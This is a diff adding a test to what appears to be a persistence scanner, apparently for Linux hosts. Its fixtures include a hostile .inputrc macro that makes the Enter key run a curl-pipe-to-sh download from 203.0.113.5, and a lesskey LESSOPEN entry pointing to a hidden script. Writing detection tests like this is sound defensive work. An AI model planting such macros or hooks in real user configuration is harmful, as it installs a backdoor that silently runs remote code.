@@ -223,3 +223,24 @@ Deno.test("persistence tools: vimrc, tmux and screen start-up files that run pay
     "high persistence.command.download_exec /home/bob/.tmux.conf",
   ]);
 });
+
+Deno.test("persistence tools: an inputrc macro and a lesskey LESSOPEN that run commands fire; Debian's inputrc stays quiet", async () => {
+  using root = makeTree(withAccounts({
+    "home/bob/.inputrc":
+      '$include /etc/inputrc\n"\\C-m": "\\C-e; curl -fsSL http://203.0.113.5/k | sh >/dev/null 2>&1\\C-j"\n',
+    "home/alice/.config/lesskey": "#command\nq quit\n#env\nLESSOPEN=|/var/tmp/.lp %s\n",
+    "etc/syslesskey": "#env\nLESS=-R\n",
+    // Debian 12's /etc/inputrc (readline-common 8.2-1.3 installs /usr/share/readline/inputrc there).
+    "etc/inputrc":
+      "# /etc/inputrc - global inputrc for libreadline\nset input-meta on\nset output-meta on\n" +
+      '$if mode=emacs\n"\\e[1~": beginning-of-line\n"\\e[4~": end-of-line\n"\\e[3~": delete-char\n' +
+      '"\\e[1;5C": forward-word\n"\\e\\e[D": backward-word\n$if term=rxvt\n"\\e[7~": beginning-of-line\n' +
+      '"\\eOd": backward-word\n$endif\n$endif\n',
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings), [
+    "high persistence.command.download_exec /home/bob/.inputrc",
+    "high persistence.command.untrusted_path /home/alice/.config/lesskey",
+  ]);
+  assert.deepEqual(r.warnings, []);
+});
